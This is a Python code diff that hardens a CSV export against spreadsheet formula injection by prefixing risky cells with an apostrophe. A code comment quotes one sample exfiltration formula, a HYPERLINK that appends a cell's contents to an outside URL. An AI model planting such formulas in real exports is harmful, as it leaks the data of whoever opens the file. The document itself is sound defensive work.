@@ -8,6 +8,15 @@ import io
 from ..stats import Table
 
 BOM = "\ufeff"
+# A cell a spreadsheet would take as a formula: an entry titled =HYPERLINK("https://…"&A2,
+# "Bấm vào") would run in the journalist's Excel, sending the row away. Such text cells
+# get a leading apostrophe (OWASP's advice): shown as typed, never evaluated.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(cell):
+    """`cell` for a CSV file: text a spreadsheet would evaluate gets a leading "'"."""
+    return "'" + cell if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) else cell
 
 
 def write_csv(columns: list[str], rows: list[list]) -> bytes:
@@ -15,7 +24,7 @@ def write_csv(columns: list[str], rows: list[list]) -> bytes:
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\n")
     writer.writerow(columns)
-    writer.writerows(rows)
+    writer.writerows([spreadsheet_safe(cell) for cell in row] for row in rows)
     return (BOM + buffer.getvalue()).encode("utf-8")
 
 
@@ -23,7 +32,7 @@ def csv_line(cells: list) -> str:
     """One row as write_csv writes it, line break included: a row kept between builds
     (export/memo.py) is joined into the file instead of formatted again."""
     buffer = io.StringIO()
-    csv.writer(buffer, lineterminator="\n").writerow(cells)
+    csv.writer(buffer, lineterminator="\n").writerow([spreadsheet_safe(cell) for cell in cells])
     return buffer.getvalue()
 
 
